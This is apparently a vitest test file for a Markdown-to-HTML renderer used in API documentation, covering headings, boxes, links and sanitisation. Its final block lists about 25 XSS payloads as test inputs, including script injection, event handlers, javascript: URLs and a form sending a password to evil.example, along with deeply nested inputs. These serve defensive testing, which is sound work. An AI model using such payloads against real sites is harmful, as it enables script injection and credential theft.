import { describe, expect, test } from 'vitest';
import { renderApiMarkdown } from './render-api-markdown.ts';

test('Markdown becomes HTML; headings stand below those of the page', () => {
	expect(renderApiMarkdown('# Eins\n\n## Zwei\n\nText mit `Code` und **Gewicht**.')).toBe(
		'<h4>Eins</h4>\n<h5>Zwei</h5>\n<p>Text mit <code>Code</code> und <strong>Gewicht</strong>.</p>',
	);
	expect(renderApiMarkdown('## Zwei\n\n### Drei', { topHeading: 2 })).toBe('<h2>Zwei</h2>\n<h3>Drei</h3>');
});

test('plain sentences are a paragraph, special characters included', () => {
	expect(renderApiMarkdown('Größe in "mm", nicht leer.')).toBe('<p>Größe in "mm", nicht leer.</p>');
	expect(renderApiMarkdown('a < b & c')).toBe('<p>a &#x3C; b &#x26; c</p>');
});

test('tables, code blocks and a small list of HTML stay', () => {
	expect(renderApiMarkdown('| a |\n| - |\n| 1 |')).toContain('<td>1</td>');
	expect(renderApiMarkdown('```json\n{"a": 1}\n```')).toBe('<pre data-code="json"><code>{"a": 1}\n</code></pre>');
	expect(renderApiMarkdown('H<sub>2</sub>O<br><kbd>Strg</kbd>')).toBe('<p>H<sub>2</sub>O<br><kbd>Strg</kbd></p>');
});

test('unknown directives and smart quotes are text', () => {
	expect(renderApiMarkdown(':::foo\n"x" -- y\n:::')).toBe('<p>:::foo\n"x" -- y\n:::</p>');
});

describe('boxes', () => {
	const note = (title: string, text: string, { box = 'note', kind = '' } = {}) =>
		`<div class="note note-${box}" role="note"${kind && ` aria-label="${kind}"`}><p class="note-title">${title}</p>\n<p>${text}</p>\n</div>`;

	test.each([
		[':::note\nText\n:::', note('Hinweis', 'Text')],
		[':::tip[Ein *Titel*]\n\nText\n\n:::', note('Ein <em>Titel</em>', 'Text', { box: 'tip', kind: 'Tipp' })],
		[':::caution Titel\nText\n:::', note('Titel', 'Text', { box: 'warning', kind: 'Achtung' })],
		['vorher\n:::danger\nText\n:::\nnachher', `<p>vorher</p>\n${note('Gefahr', 'Text', { box: 'danger' })}\n<p>nachher</p>`],
	])('%j', (text, html) => expect(renderApiMarkdown(text).replaceAll(/\n+/g, '\n')).toBe(html));

	test('as GitHub writes them', () => {
		expect(renderApiMarkdown('> [!IMPORTANT]\n> Text')).toContain('<p class="note-title">Wichtig</p><p>Text</p>');
	});

	test('code inside stays code, and code is no box', () => {
		expect(renderApiMarkdown(':::note\n```\n:::\n```\n:::')).toContain('<pre data-code=""><code>:::\n</code></pre>');
		expect(renderApiMarkdown('```\n:::note\n```')).toBe('<pre data-code=""><code>:::note\n</code></pre>');
	});
});

test('Markdown in the line below the end of an HTML block is Markdown', () => {
	expect(renderApiMarkdown('<div>Start</div>\n</div>\n* [Eins](https://a.example)\n```\n</div>\n# kein Titel\n```')).toBe(
		'Start\n\n<ul>\n<li><a href="https://a.example" rel="noopener">Eins</a></li>\n</ul>\n<pre data-code=""><code>&#x3C;/div>\n# kein Titel\n</code></pre>',
	);
	expect(renderApiMarkdown('<table><tr><td>* bleibt</td></tr></table>\nText **darunter**')).toContain('Text **darunter**');
});

test('tasks and footnotes keep what they say', () => {
	expect(renderApiMarkdown('- [x] fertig\n- [ ] offen')).toBe('<ul>\n<li>☑ fertig</li>\n<li>☐ offen</li>\n</ul>');
	expect(renderApiMarkdown('Text[^1].\n\n[^1]: Note.').replaceAll(/\s+/g, ' ')).toBe('<p>Text<sup>1</sup>.</p> <hr> <ol> <li> <p>Note. </p> </li> </ol>');
});

test('headings leave no level out, and empty ones are none', () => {
	expect(renderApiMarkdown('# Eins\n\n##### Fünf\n\n#\n\n## &nbsp;\n\n# Zwei', { topHeading: 3 })).toBe('<h3>Eins</h3>\n<h4>Fünf</h4>\n\n\n<h3>Zwei</h3>');
	expect(renderApiMarkdown('# <img src="https://example.com/a.png" alt="Bild">')).toContain('<h4>');
});

test('headings get ids where they are asked for', () => {
	expect(renderApiMarkdown('# Erster *Teil*', { topHeading: 2, headingId: (text) => text.toLowerCase() })).toBe(
		'<h2 id="erster teil">Erster <em>Teil</em></h2>',
	);
});

describe('links', () => {
	test('to http, https and mailto stay, without a way back to this window', () => {
		expect(renderApiMarkdown('[x](https://example.com/a?b=1&c=2 "t")')).toBe(
			'<p><a href="https://example.com/a?b=1&#x26;c=2" rel="noopener" title="t">x</a></p>',
		);
		expect(renderApiMarkdown('a@example.com')).toContain('href="mailto:a@example.com"');
	});

	test('inside the provider’s own site wait for somebody who knows where they lead', () => {
		expect(renderApiMarkdown('[x](/docs) [y](#tag/pets)')).toBe('<p><a href="api:/docs" rel="noopener">x</a> <a href="api:#tag/pets" rel="noopener">y</a></p>');
		expect(renderApiMarkdown('[x](api:/docs) [y](API:x)')).toBe('<p>x y</p>');
	});

	test('pictures become links to them: a page must not call strangers', () => {
		expect(renderApiMarkdown('![Bild](https://example.com/a.png)')).toBe('<p><a href="https://example.com/a.png" rel="noopener picture">Bild</a></p>');
		expect(renderApiMarkdown('![Bild](a.png) <a href="https://x.example" rel="picture">y</a>')).toBe(
			'<p>Bild <a href="https://x.example" rel="noopener">y</a></p>',
		);
	});
});

describe('attacks come to nothing', () => {
	test.each([
		'<script>alert(1)</script>',
		'<ScRiPt src=https://evil.example></sCrIpT>',
		'<img src=x onerror=alert(1)>',
		'<svg onload=alert(1)><script>alert(1)</script></svg>',
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
		'<a href="javascript:alert(1)">x</a>',
		'[x](javascript:alert(1))',
		'[x](&#106;avascript:alert(1))',
		'<a href="jav&#x09;ascript:alert(1)">x</a>',
		'<a href="\u0001javascript:alert(1)">x</a>',
		'[x](data:text/html;base64,PHNjcmlwdD4=)',
		'[x](vbscript:msgbox)',
		'[x](//evil.example)',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		'<form action=https://evil.example><input name=password><button>Los</button></form>',
		'<p style="position:fixed" onclick=alert(1) id=search class=dialog>x</p>',
		'<style>body{display:none}</style>',
		'<base href=https://evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>',
		'<details open ontoggle=alert(1)><summary>x</summary></details>',
		'```a"onmouseover="alert(1)\nx\n```',
		'</div></main><h1>Eingeschleust</h1>',
		'<template><img src=x onerror=alert(1)></template>',
		'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
		'<custom-element onfocus=alert(1) autofocus tabindex=1>x</custom-element>',
	])('%s', (text) => {
		const html = renderApiMarkdown(text);
		const tags = [...html.matchAll(/<(?:[^<>"]|"[^"]*")*>/g)].map(([tag]) => tag);
		expect(tags.filter((tag) => !/^<\/?(p|a|br|details|summary|pre|code|h4|span)( (href|rel|title|class|open|data-code)(="[^"]*")?)*>$/.test(tag))).toEqual([]);
		expect(tags.join()).not.toMatch(/javascript:|data:|vbscript:|evil|onmouseover(?!=&quot;)=/i);
		expect(html.replaceAll(/<(?:[^<>"]|"[^"]*")*>/g, '')).not.toContain('<');
	});

	test.each([
		['quotations', '>'.repeat(100_000)],
		['elements', '<b>'.repeat(30_000)],
		['brackets', '['.repeat(100_000)],
		['lists', Array.from({ length: 300 }, (_, index) => `${' '.repeat(index * 2)}- a`).join('\n')],
	])('thousands of %s inside one another give a flat page or are refused', (_, text) => {
		const html = renderApiMarkdown(text);
		let depth = 0;
		let deepest = 0;
		for (const [tag] of html.matchAll(/<\/?[a-z]+/g)) {
			depth += tag.startsWith('</') ? -1 : 1;
			deepest = Math.max(deepest, depth);
		}
		expect(deepest).toBeLessThan(1_000);
	});
});
